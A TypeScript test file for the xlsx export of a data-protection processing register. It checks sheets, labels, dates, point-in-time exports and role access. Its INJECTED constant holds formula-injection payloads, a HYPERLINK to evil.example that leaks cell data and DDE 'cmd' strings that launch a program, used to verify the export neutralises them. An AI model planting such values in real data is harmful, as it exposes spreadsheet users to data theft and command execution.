import ExcelJS from 'exceljs';
import { createOrganizationWithRoles, createTestApi, TestApi, TestOrganization } from '../../test/test-api';
import { completeActivity } from '../activities/activities.test-helpers';
import { translate, Locale } from '../common/i18n/i18n';
import sampleRegister from '../database/seeds/sample-register.json';
import { download, openWorkbook, rowsOf } from './exports.test-helpers';

interface Detail {
  id: string;
  reference: string;
  name: string;
  status: string;
  role: string;
  department: string | null;
  owner: string | null;
  nextReviewDate: string | null;
  completeness: { score: number };
  purposes: { description: string; legalBasis: string | null; main: boolean }[];
  dataCategories: { category: string; retention: { activePeriod: string | null; endAction: string } | null }[];
  dataSubjects: { category: string; estimatedCount: number | null }[];
  recipients: unknown[];
  processors: string[];
  transfers: { country: string; mechanism: string | null }[];
  transferStatuses: { status: string }[];
  securityMeasures: string[];
  clientControllers: unknown[];
  jointControllers: unknown[];
}

const INJECTED = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  description: '+cmd|\' /C calc\'!A0',
  purpose: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  measure: 'other:-2+3+cmd|\' /C calc\'!A0',
};

describe('Register export (xlsx, real PostgreSQL)', () => {
  let api: TestApi;
  let org: TestOrganization;
  let details: Detail[];
  const base = () => `/api/v1/organizations/${org.organizationId}`;
  const label = (locale: Locale, key: string) => translate(locale, `exports.${key}`);

  beforeAll(async () => {
    api = await createTestApi();
    org = await createOrganizationWithRoles(api.server, 'Export');
    await org.admin.patch(base()).send({ legalName: 'Export SAS', dpoName: 'Denise Délégué', dpoEmail: 'dpo@export.test', dpoPhone: '+33 1 23 45 67 89', version: 1 });
    await org.as.dpo.post(`${base()}/activities/import-json`).send(sampleRegister.activities).expect(201);
    await org.as.dpo
      .post(`${base()}/activities`)
      .send(
        completeActivity({
          name: INJECTED.name,
          description: INJECTED.description,
          purposes: [{ description: INJECTED.purpose, main: true, legalBasis: 'contract' }],
          securityMeasures: ['encryption', INJECTED.measure],
        }),
      )
      .expect(201);
    const list = await org.as.auditor.get(`${base()}/activities?pageSize=100&sort=reference`).expect(200);
    details = await Promise.all(list.body.items.map(async (item: { id: string }) => (await org.as.auditor.get(`${base()}/activities/${item.id}`).expect(200)).body as Detail));
  });
  afterAll(() => api.close());

  it.each(['fr', 'en'] as Locale[])('writes every sheet in %s with labels, codes, real dates and the register as in the database', async (locale) => {
    const response = await download(org.as.auditor, `${base()}/exports/register.xlsx?lang=${locale}`);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(response.headers['content-disposition']).toMatch(/attachment; filename="register-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const workbook = await openWorkbook(response.body);
    const names = workbook.worksheets.map((sheet) => sheet.name);
    expect(names).toEqual(
      ['cover', 'register', 'parties', 'purposes', 'data_categories', 'data_subjects', 'recipients', 'processors', 'transfers', 'security_measures', 'dpia_screening', 'dpias', 'vendors', 'processor_register', 'rights_requests', 'breaches'].map(
        (key) => label(locale, `sheet_${key}`),
      ),
    );

    const cover = rowsOf(workbook.getWorksheet(label(locale, 'sheet_cover'))!);
    const coverValue = (key: string) => cover.find((row) => row[label(locale, 'col_field')] === label(locale, `cover_${key}`))?.[label(locale, 'col_value')];
    expect(coverValue('organization')).toBe('Export');
    expect(coverValue('legal_name')).toBe('Export SAS');
    expect(coverValue('dpo_name')).toBe('Denise Délégué');
    // A phone number is a text cell, shown as typed: no leading apostrophe.
    expect(coverValue('dpo_phone')).toBe('+33 1 23 45 67 89');
    expect(coverValue('exported_at')).toBeInstanceOf(Date);
    expect(coverValue('exported_by')).toMatch(/^Test auditor <auditor-/);

    const sheet = workbook.getWorksheet(label(locale, 'sheet_register'))!;
    // Readable: bold frozen header, filter over the columns.
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    const col = (key: string) => label(locale, `col_${key}`);
    const register = rowsOf(sheet);
    expect(register.map((row) => row[col('reference')])).toEqual(details.map((detail) => detail.reference));
    for (const [i, detail] of details.entries()) {
      const row = register[i];
      if (detail.name !== INJECTED.name) expect(row[col('name')]).toBe(detail.name);
      expect(row[col('status')]).toBe(label(locale, `status_${detail.status}`));
      expect(row[col('status_code')]).toBe(detail.status);
      expect(row[col('role_code')]).toBe(detail.role);
      expect(row[col('department')] ?? null).toBe(detail.department);
      expect(row[col('owner')] ?? null).toBe(detail.owner);
      expect(row[col('completeness')]).toBe(detail.completeness.score);
      if (detail.nextReviewDate) expect((row[col('next_review_date')] as Date).toISOString().slice(0, 10)).toBe(detail.nextReviewDate);
      if (detail.status === 'validated') expect(row[col('last_validation')]).toBeInstanceOf(Date);
    }

    // Detail sheets: one row per item, in order, codes beside labels.
    const catalogue = async (name: string) =>
      new Map(((await org.as.auditor.get(`/api/v1/catalogues/${name}`).expect(200)).body.items as { code: string; fr: string; en: string }[]).map((item) => [item.code, item[locale]]));
    const legalBases = await catalogue('legal-bases');
    const purposes = rowsOf(workbook.getWorksheet(label(locale, 'sheet_purposes'))!);
    const expectedPurposes = details.flatMap((detail) => detail.purposes.map((purpose) => ({ detail, purpose })));
    expect(purposes).toHaveLength(expectedPurposes.length);
    expectedPurposes.forEach(({ detail, purpose }, i) => {
      expect(purposes[i][col('reference')]).toBe(detail.reference);
      expect(purposes[i][col('legal_basis_code')] ?? null).toBe(purpose.legalBasis);
      expect(purposes[i][col('legal_basis')] ?? null).toBe(purpose.legalBasis ? legalBases.get(purpose.legalBasis) : null);
      expect(purposes[i][col('main')]).toBe(label(locale, purpose.main ? 'yes' : 'no'));
    });

    const dataCategories = await catalogue('data-categories');
    const data = rowsOf(workbook.getWorksheet(label(locale, 'sheet_data_categories'))!);
    const expectedData = details.flatMap((detail) => detail.dataCategories);
    expect(data.map((row) => [row[col('data_category_code')], row[col('data_category')], row[col('active_period_code')] ?? null, row[col('end_action_code')] ?? null])).toEqual(
      expectedData.map((category) => [category.category, dataCategories.get(category.category), category.retention?.activePeriod ?? null, category.retention?.endAction ?? null]),
    );

    // Durations in words, the ISO duration only in the code column the import reads.
    const payslips = data.find((row) => row[col('active_period_code')] === 'P5Y' && row[col('archive_period_code')] === 'P45Y');
    expect(payslips?.[col('active_period')]).toBe(locale === 'fr' ? '5 ans' : '5 years');
    expect(payslips?.[col('archive_period')]).toBe(locale === 'fr' ? '45 ans' : '45 years');
    const retentionCells = register.map((row) => (typeof row[col('retention')] === 'string' ? (row[col('retention')] as string) : ''));
    expect(retentionCells.join('\n')).toContain(locale === 'fr' ? 'État civil, identité : 5 ans, puis 45 ans en archive' : 'Identity and civil status: 5 years, then 45 years archived');
    expect(retentionCells.join('\n')).not.toMatch(/\bP\d+[YMWD]\b/);

    const subjects = rowsOf(workbook.getWorksheet(label(locale, 'sheet_data_subjects'))!);
    expect(subjects.map((row) => [row[col('data_subject_category_code')], row[col('estimated_count')] ?? null])).toEqual(
      details.flatMap((detail) => detail.dataSubjects.map((subject) => [subject.category, subject.estimatedCount])),
    );
    expect(rowsOf(workbook.getWorksheet(label(locale, 'sheet_recipients'))!)).toHaveLength(details.flatMap((detail) => detail.recipients).length);
    expect(rowsOf(workbook.getWorksheet(label(locale, 'sheet_processors'))!).map((row) => row[col('vendor')])).toEqual(details.flatMap((detail) => detail.processors));

    const transfers = rowsOf(workbook.getWorksheet(label(locale, 'sheet_transfers'))!);
    const expectedTransfers = details.flatMap((detail) => detail.transfers.map((transfer, i) => ({ transfer, status: detail.transferStatuses[i].status })));
    expect(expectedTransfers.length).toBeGreaterThan(0);
    expect(transfers.map((row) => [row[col('country_code')], row[col('mechanism_code')] ?? null, row[col('transfer_status_code')], row[col('transfer_status')]])).toEqual(
      expectedTransfers.map(({ transfer, status }) => [transfer.country, transfer.mechanism, status, label(locale, `transfer_status_${status}`)]),
    );
    expect(rowsOf(workbook.getWorksheet(label(locale, 'sheet_security_measures'))!).map((row) => row[col('security_measure_code')])).toEqual(
      details.flatMap((detail) => detail.securityMeasures).map((measure) => (measure.startsWith('-') ? `'${measure}` : measure)),
    );
    expect(rowsOf(workbook.getWorksheet(label(locale, 'sheet_dpia_screening'))!)).toHaveLength(details.length);
    const processorRows = rowsOf(workbook.getWorksheet(label(locale, 'sheet_processor_register'))!);
    expect(processorRows.map((row) => row[col('reference')])).toEqual(details.filter((detail) => detail.role === 'processor').map((detail) => detail.reference));
    expect(processorRows[0][col('client_controllers')]).toBeTruthy();
    const vendors = (await org.as.auditor.get(`${base()}/vendors?pageSize=100`).expect(200)).body;
    expect(rowsOf(workbook.getWorksheet(label(locale, 'sheet_vendors'))!)).toHaveLength(vendors.total);
  });

  it('writes formula-like text as text no spreadsheet evaluates, and no formula anywhere', async () => {
    const workbook = await openWorkbook((await download(org.as.dpo, `${base()}/exports/register.xlsx?lang=en`)).body);
    let formulas = 0;
    let hyperlinks = 0;
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
          if (cell.type === ExcelJS.ValueType.Hyperlink) hyperlinks += 1;
        }),
      );
    }
    expect({ formulas, hyperlinks }).toEqual({ formulas: 0, hyperlinks: 0 });
    const register = rowsOf(workbook.getWorksheet('Register')!);
    const injected = register.find((row) => row.Name === `'${INJECTED.name}`);
    expect(injected).toBeDefined();
    expect(injected!.Description).toBe(`'${INJECTED.description}`);
    const purposes = rowsOf(workbook.getWorksheet('Purposes')!);
    expect(purposes.some((row) => row.Purpose === `'${INJECTED.purpose}`)).toBe(true);
    const measures = rowsOf(workbook.getWorksheet('Security measures')!);
    expect(measures.some((row) => row['Security measure'] === `'${INJECTED.measure.slice('other:'.length)}`)).toBe(true);
  });

  it('exports the register as it stood at a past instant, and filters by status', async () => {
    const [first] = details;
    const before = new Date();
    await new Promise((resolve) => setTimeout(resolve, 20));
    const current = (await org.as.dpo.get(`${base()}/activities/${first.id}`).expect(200)).body;
    await org.as.dpo.post(`${base()}/activities/${first.id}/reopen`).send({ version: current.version }).expect(200);
    await org.as.dpo.patch(`${base()}/activities/${first.id}`).send({ version: current.version + 1, name: 'Renommé après coup' }).expect(200);
    await org.as.dpo.post(`${base()}/activities`).send(completeActivity({ name: 'Créé après coup' })).expect(201);

    const now = rowsOf((await openWorkbook((await download(org.as.auditor, `${base()}/exports/register.xlsx?lang=fr`)).body)).getWorksheet('Registre')!);
    expect(now.find((row) => row['Référence'] === first.reference)?.Nom).toBe('Renommé après coup');
    expect(now.some((row) => row.Nom === 'Créé après coup')).toBe(true);

    const then = await openWorkbook((await download(org.as.auditor, `${base()}/exports/register.xlsx?lang=fr&asOf=${encodeURIComponent(before.toISOString())}`)).body);
    const past = rowsOf(then.getWorksheet('Registre')!);
    expect(past.find((row) => row['Référence'] === first.reference)).toMatchObject({ Nom: first.name, 'Statut (code)': first.status });
    expect(past).toHaveLength(details.length);
    const asOfLine = rowsOf(then.getWorksheet('Couverture')!).find((row) => row.Rubrique === 'Registre à la date du');
    expect((asOfLine?.Valeur as Date).toISOString()).toBe(before.toISOString());

    const validated = rowsOf((await openWorkbook((await download(org.as.auditor, `${base()}/exports/register.xlsx?lang=en&status=validated`)).body)).getWorksheet('Register')!);
    expect(validated.length).toBeGreaterThan(0);
    expect(validated.every((row) => row['Status (code)'] === 'validated')).toBe(true);
    await org.as.auditor.get(`${base()}/exports/register.xlsx?status=finished`).expect(400);
    await org.as.auditor.get(`${base()}/exports/register.xlsx?asOf=yesterday`).expect(400);
  });

  it('exports the vendors list and the processor register alone, to the roles the matrix allows', async () => {
    const vendors = await openWorkbook((await download(org.as.contributor, `${base()}/exports/vendors.xlsx?lang=en`)).body);
    expect(vendors.worksheets.map((sheet) => sheet.name)).toEqual(['Cover', 'Vendors']);
    const total = (await org.as.auditor.get(`${base()}/vendors?pageSize=100`).expect(200)).body.total;
    expect(rowsOf(vendors.getWorksheet('Vendors')!)).toHaveLength(total);
    const processor = await openWorkbook((await download(org.as.auditor, `${base()}/exports/processor-register.xlsx?lang=fr`)).body);
    expect(processor.worksheets.map((sheet) => sheet.name)).toEqual(['Couverture', 'Registre sous-traitant (30.2)']);
    expect(rowsOf(processor.getWorksheet('Registre sous-traitant (30.2)')!)).toHaveLength(1);
    await org.as.contributor.get(`${base()}/exports/evidence.zip`).expect(403);
  });
});
